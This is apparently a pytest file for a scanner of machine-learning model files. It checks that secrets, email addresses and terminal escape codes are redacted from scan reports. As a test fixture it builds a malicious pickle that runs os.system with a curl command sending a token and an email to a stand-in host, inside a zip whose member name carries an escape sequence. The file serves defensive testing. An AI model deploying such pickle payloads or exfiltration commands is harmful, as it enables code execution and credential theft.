"""Strings read from scanned files are data: every one goes through ``gates.core.hygiene``
(credential and PII shapes redacted, control characters escaped) before a report or console."""

from __future__ import annotations

import json
import zipfile

from modelsamples import call, pickle_of, ustr, zip_bytes

TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
EMAIL = "jane.doe@example.org"


def test_secret_and_pii_in_pickle_strings_never_reach_explain_or_reports(cli, tmp_path):
    evil = pickle_of(call("os", "system", ustr(f"curl -H 'Authorization: {TOKEN}' https://x/?mail={EMAIL}")))
    member = f"secrets_{TOKEN}/\x1b[31mdata.pkl"
    (tmp_path / "m.zip").write_bytes(zip_bytes([(member, evil)], compress=zipfile.ZIP_DEFLATED))
    out = tmp_path / "r.json"
    r = cli("model", "m.zip", "--explain", "--format", "json", "--output", out, "-q", cwd=tmp_path)
    assert r.code == 1
    text = out.read_text() + r.err + r.out
    assert TOKEN not in text and EMAIL not in text and "\x1b" not in text
    assert "os.system" in r.err  # the explanation is still there
    f = next(f for f in json.loads(out.read_text())["findings"] if f["rule"] == "MODEL001")
    assert f["member"].startswith("secrets_") and "\\x1b" in f["member"]


def test_scanner_hits_are_cleaned_before_they_leave_the_worker():
    """Hits travel between processes and into --explain: they are cleaned at the source too."""
    from gates.model.config import printable

    assert printable(f"name {TOKEN}") == "name …"
    assert printable("a\x1b[2Jb\u202e") == "a\\x1b[2Jb\\u202e"
    assert printable(f"mail {EMAIL}", pii=True) == "mail …@…"
    assert len(printable("x" * 1000, 50)) == 50
